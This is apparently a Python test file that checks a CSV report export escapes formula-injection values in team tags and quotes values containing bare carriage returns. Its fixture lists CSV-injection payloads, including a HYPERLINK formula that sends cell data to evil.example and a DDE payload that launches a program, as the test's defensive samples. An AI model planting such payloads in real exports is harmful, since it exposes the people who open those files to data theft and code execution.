"""Attack 7: a tag value written by another team becomes a live formula, or splits a row, in the CSV export.

Control: ``ecoguard.report.exports.neutralized`` (OWASP "CSV Injection": a cell starting with ``=``, ``+``,
``-``, ``@``, tab or CR is read as a formula) and quoting of a row holding a bare CR.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from ecoguard.audit import AuditRecord
from ecoguard.decisions import Mode, Outcome, Resource
from ecoguard.report import build_report, render_csv

NOW = datetime(2026, 11, 26, tzinfo=UTC)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")


def tagged(team: str, reason: str, name: str = "g") -> AuditRecord:
    return AuditRecord(
        guardrail="log-retention",
        resource=Resource(f"arn:aws:logs:us-east-1:111122223333:log-group:/{name}", f"/{name}", "AWS::Logs::LogGroup"),
        action="put-retention",
        trigger_id="t",
        trigger="test",
        outcome=Outcome.WOULD_APPLY,
        mode=Mode.DRY_RUN,
        reason=reason,
        before={},
        after={},
        recorded_at=NOW,
        ttl_days=1,
        impact={"kwh": 1.0, "kg_co2e": 0.5, "usd": -1.25, "period": "per day"},
        attribution={"team": team},
    )


def test_given_tag_values_that_are_formulas_when_exported_then_no_cell_starts_a_formula() -> None:
    records = [tagged(f, "r", f"g{i}") for i, f in enumerate(FORMULAS)]
    rows = list(csv.DictReader(io.StringIO(render_csv(build_report(records, NOW, ("team",))))))
    assert sorted(row["tag:team"] for row in rows) == sorted("'" + f for f in FORMULAS)
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_given_a_negative_figure_when_exported_then_it_stays_a_number() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(build_report([tagged("ml", "r")], NOW, ("team",))))))
    assert [float(row["potential_monthly_usd"]) for row in rows] == [round(-1.25 / 24 * 730, 2)]


def test_given_a_bare_carriage_return_in_a_value_when_exported_then_it_splits_no_row() -> None:
    records = [tagged("ml\r=1+1", "idle\rinjected")]
    rows = list(csv.reader(io.StringIO(render_csv(build_report(records, NOW, ("team",))), newline="")))
    assert len(rows) == 2  # the header and the one action
    assert rows[1][rows[0].index("tag:team")] == "ml\r=1+1"
    assert rows[1][rows[0].index("reason")] == "idle\rinjected"
